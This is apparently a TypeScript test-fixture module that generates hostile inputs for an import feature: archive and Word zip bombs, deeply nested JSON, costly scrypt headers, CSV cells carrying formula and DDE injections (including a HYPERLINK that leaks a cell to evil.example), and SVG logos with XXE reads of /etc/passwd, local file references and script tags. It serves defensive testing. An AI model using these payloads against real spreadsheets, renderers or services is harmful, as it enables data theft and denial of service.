/**
 * Generators for the hostile-input corpus: files crafted to cost memory or time (archive bombs,
 * millions of tiny JSON values, deep nesting, absurd key-derivation costs), Word and Markdown
 * notes that are no notes, formulas in norm files and SVG logos that reach outside themselves.
 * Everything is generated here, deterministically; nothing is read from outside the repository.
 */
import { createHash } from 'node:crypto';
import { createGzip, gzipSync } from 'node:zlib';
import { buildZip, randomBytes } from '../import/zip-builder';

const MAGIC = Buffer.from('KLSPARCH', 'latin1');
const encode = (text: string) => new TextEncoder().encode(text);

/** A plain `.klantspiegel` file around an already gzipped payload, with a valid checksum. */
export function plainArchive(gzipped: Uint8Array): Uint8Array {
  const hash = createHash('sha256').update(gzipped).digest();
  return new Uint8Array(Buffer.concat([MAGIC, Buffer.from([1, 0]), hash, gzipped]));
}

/**
 * A small archive whose JSON unpacks to `megabytes` MB (the finding: 0.5 MB around 400 MB of
 * JSON). Streamed through gzip, so the test never holds the unpacked text.
 */
export async function archiveBomb(megabytes: number, filler = 'x'): Promise<Uint8Array> {
  const gzip = createGzip({ level: 1 });
  const parts: Buffer[] = [];
  gzip.on('data', (chunk: Buffer) => parts.push(chunk));
  const done = new Promise((resolve) => gzip.on('end', resolve));
  const block = Buffer.from(`"${filler.repeat(1024 * 1024 - 3)}",`);
  const write = (chunk: Buffer) =>
    new Promise<void>((resolve) => (gzip.write(chunk) ? resolve() : gzip.once('drain', resolve)));
  await write(Buffer.from('{"format":"klantspiegel.engagement-archive","x":['));
  for (let written = 0; written < megabytes; written++) await write(block);
  gzip.end(Buffer.from('""]}'));
  await done;
  return plainArchive(Buffer.concat(parts));
}

/** Millions of empty arrays: a few MB on disk, gigabytes once parsed. */
export function tinyValuesArchive(millions: number, shape: '[]' | '{}' | '0' = '[]'): Uint8Array {
  const body = `${shape},`.repeat(millions * 1_000_000);
  const json = `{"format":"klantspiegel.engagement-archive","x":[${body}${shape}]}`;
  return plainArchive(gzipSync(json, { level: 1 }));
}

/** JSON nested `depth` levels deep. */
export function deepArchive(depth: number, open = '[', close = ']'): Uint8Array {
  const opener = open === '{' ? '{"a":' : open;
  const inner = `${opener.repeat(depth)}1${close.repeat(depth)}`;
  return plainArchive(gzipSync(`{"format":"klantspiegel.engagement-archive","x":${inner}}`));
}

/**
 * An encrypted archive whose header asks scrypt for `log2N`, `r` and `p`: a derivation of
 * gigabytes or minutes before the passphrase could even be checked.
 */
export function costlyKeyArchive(log2N: number, r: number, p: number, seed: number): Uint8Array {
  const header = Buffer.concat([MAGIC, Buffer.from([1, 1, log2N, r, p])]);
  return new Uint8Array(
    Buffer.concat([header, Buffer.from(randomBytes(16 + 12 + 16 + 64 + 16, seed))]),
  );
}

/** Word files that are no notes: bombs, old .doc, zips without a document. */
export function notDocxFiles(): { kind: string; name: string; bytes: Uint8Array }[] {
  const files: { kind: string; name: string; bytes: Uint8Array }[] = [];
  for (let i = 0; i < 5; i++) {
    files.push({
      kind: 'notes: Word zip bomb',
      name: `bomb-${i}.docx`,
      bytes: buildZip([
        { name: 'word/document.xml', data: encode('<w:document/>') },
        {
          name: 'word/media/image.bin',
          data: new Uint8Array((5 + i) * 1024 * 1024),
          declaredSize: (30 + i) * 1024 * 1024,
        },
        ...Array.from({ length: 4 }, (_, k) => ({
          name: `word/fill${k}.xml`,
          data: encode('<x/>'),
          declaredSize: 30 * 1024 * 1024,
        })),
      ]),
    });
  }
  for (let i = 0; i < 3; i++) {
    const ole = new Uint8Array([
      0xd0,
      0xcf,
      0x11,
      0xe0,
      0xa1,
      0xb1,
      0x1a,
      0xe1,
      ...randomBytes(3000, 500 + i),
    ]);
    files.push({ kind: 'notes: old Word document', name: `old-${i}.docx`, bytes: ole });
  }
  for (let i = 0; i < 5; i++) {
    files.push({
      kind: 'notes: zip without a Word document',
      name: `nodoc-${i}.docx`,
      bytes: buildZip([{ name: `word/other${i}.xml`, data: encode('<x/>') }]),
    });
  }
  return files;
}

/** Markdown and text notes that are not text, too large, empty or of an unsupported kind. */
export function brokenNotesFiles(): { kind: string; name: string; bytes: Uint8Array }[] {
  const files: { kind: string; name: string; bytes: Uint8Array }[] = [];
  for (let i = 0; i < 10; i++) {
    files.push({
      kind: 'notes: binary data named .md',
      name: `binary-${i}.${i % 2 ? 'md' : 'txt'}`,
      bytes: randomBytes(2000 + i * 300, 700 + i),
    });
  }
  for (let i = 0; i < 3; i++) {
    files.push({
      kind: 'notes: Markdown over the size limit',
      name: `huge-${i}.md`,
      bytes: encode(`- punt ${i}\n`.repeat(600_000 + i * 1000)),
    });
  }
  for (const [i, text] of ['', '\n\n\n', '   \t  ', '\uFEFF', '\r\n\r\n'].entries()) {
    files.push({
      kind: 'notes: empty',
      name: `empty-${i}.${i % 2 ? 'md' : 'txt'}`,
      bytes: encode(text),
    });
  }
  for (const [i, name] of [
    'notes.pdf',
    'notes.exe',
    'notes.doc.zip',
    'notes',
    'notes.html',
  ].entries()) {
    files.push({ kind: 'notes: unsupported kind', name, bytes: randomBytes(500, 800 + i) });
  }
  return files;
}

/** Norm-set CSV files whose dimension is a formula (refused) or numbers that are formulas. */
export function formulaNormCsvs(): { name: string; bytes: Uint8Array }[] {
  const header = 'dimension,mean,sd,n,p10,p25,p50,p75,p90';
  const numbers = '3.1,0.6,120,2.3,2.7,3.1,3.5,3.9';
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"KK")',
    `=cmd|' /C calc'!A0`,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    ' =1+1',
    '\u00A0=HYPERLINK("x")',
    '\'=HYPERLINK("http://evil.example")',
    '＝1+1',
    '"=1+1"',
  ];
  return formulas.map((formula, i) => {
    const cell = /[",]/.test(formula) ? `"${formula.replace(/"/g, '""')}"` : formula;
    return { name: `formula-norms-${i}.csv`, bytes: encode(`${header}\r\n${cell},${numbers}\r\n`) };
  });
}

/** SVG logos that would pull something from outside into the rendered report. */
export function externalSvgLogos(): { name: string; bytes: Uint8Array }[] {
  const svg = (inner: string, head = '') =>
    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="80">${inner}</svg>`;
  const logos = [
    svg('<image href="file:///etc/hostname" width="200" height="80"/>'),
    svg('<image xlink:href="/home/consultant/Pictures/client.png" width="10" height="10"/>'),
    svg('<image href="https://evil.example/track.png" width="1" height="1"/>'),
    svg('<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'),
    svg('<use href="file:///tmp/other.svg#logo"/>'),
    svg('<use xlink:href="http://evil.example/sprite.svg#a"/>'),
    svg('<rect width="10" height="10" fill="url(file:///tmp/pattern.svg#p)"/>'),
    svg('<rect width="10" height="10" style="fill: url(\'http://evil.example/p.svg#p\')"/>'),
    svg('<style>@import url("http://evil.example/a.css");</style><rect width="5" height="5"/>'),
    svg('<foreignObject width="10" height="10"><p>x</p></foreignObject>'),
    svg('<script>alert(1)</script><rect width="5" height="5"/>'),
    svg(
      '<text>&xxe;</text>',
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ),
    svg(
      '<rect width="5" height="5"/>',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    ),
    svg('<rect width="5" height="5"/>', '<?xml-stylesheet href="file:///tmp/x.css"?>'),
    svg('<a href="http://evil.example"><rect width="5" height="5"/></a>'),
    svg('<svg:image href="file:///etc/hostname" xmlns:svg="http://www.w3.org/2000/svg"/>'),
    svg('<feImage href="file:///etc/hostname"/>'),
    svg("<image href='file:///etc/hostname'/>"),
  ];
  return logos.map((text, i) => ({ name: `logo-${i}.svg`, bytes: encode(text) }));
}
